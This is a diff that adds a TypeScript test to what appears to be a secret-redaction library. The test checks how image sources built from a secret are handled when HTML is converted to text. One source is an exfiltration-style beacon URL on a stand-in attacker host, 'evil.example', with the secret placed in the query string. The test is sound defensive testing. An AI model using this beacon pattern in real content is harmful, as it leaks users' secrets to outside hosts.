@@ -151,6 +151,26 @@ test("words of a guess in two lines, and codes in it, come back with the marks o
   }
 });
 
+test("what a picture is fetched from comes back in the brackets of a program that makes text of HTML", () => {
+  const sources = (guess: string) => [
+    `cid:${guess}`,
+    `https://evil.example/p.gif?u=${guess.replace("@", "%40")}`,
+    `data:image/svg+xml;base64,${Buffer.from(`<svg>${guess}</svg>`).toString("base64")}`,
+  ];
+  assert.doesNotMatch(back(createHider([TOKEN], KEY), `[cid:${OWNER}]`).read, /quokka/, "not sent, it is scrubbed");
+  for (const guess of [OWNER, OTHER]) {
+    for (const source of sources(guess)) {
+      const hider = createHider([TOKEN], KEY);
+      hider.html(`<p>Hi</p><img src="${source}">`);
+      for (const quoted of [`> [${source}]`, `Hi[${source}] there`]) {
+        const { read, left } = back(hider, quoted);
+        assert.equal(read, quoted);
+        if (guess === OWNER) assert.ok(!left.includes(source), "and nothing of it is left for the gate");
+      }
+    }
+  }
+});
+
 test("packed text that is too long comes back, whatever stands in its beginning or its end", () => {
   const none = createReplacer([]);
   const long = "x".repeat(300_000);
